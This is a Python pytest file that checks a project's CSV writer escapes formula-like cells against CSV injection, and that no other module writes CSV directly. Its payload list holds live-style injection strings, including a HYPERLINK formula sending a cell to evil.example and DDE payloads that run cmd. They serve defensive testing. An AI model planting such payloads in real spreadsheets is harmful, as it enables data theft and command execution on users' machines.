"""Every CSV the project writes neutralises cells a spreadsheet would run as a formula (OWASP
"CSV Injection": a leading ' on a text starting with =, +, -, @, tab or CR), in one place:
csvfiles.write_csv."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from capaflow.csvfiles import write_csv

ROOT = Path(__file__).resolve().parents[2]

PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=1+2\n=3+4",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_looking_text_is_written_as_text(payload: str) -> None:
    rows = list(csv.reader(io.StringIO(write_csv([payload], [[payload, "x"]]), newline="")))
    # A CR is written as a line feed inside the quoted cell, so the row stays one row.
    shown = "'" + payload.replace("\r", "\n")
    assert rows == [[shown], [shown, "x"]]


def test_plain_texts_and_numbers_are_written_unchanged() -> None:
    text = write_csv(["a", "b", "c", "d", "e"],
                     [["Cracked housing", "a=b", -5, Decimal("-12.50"), "it's 'quoted'"]])
    assert text == "a,b,c,d,e\nCracked housing,a=b,-5,-12.50,it's 'quoted'\n"


def test_no_module_writes_csv_but_through_write_csv() -> None:
    # A new export that builds its own csv.writer would skip the neutralising.
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for path in ROOT.glob("*/**/*.py")
        if not path.is_relative_to(ROOT / "tests") and ".venv" not in path.parts
        and not any(part.startswith(".") for part in path.relative_to(ROOT).parts)
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["csvfiles/__init__.py"]
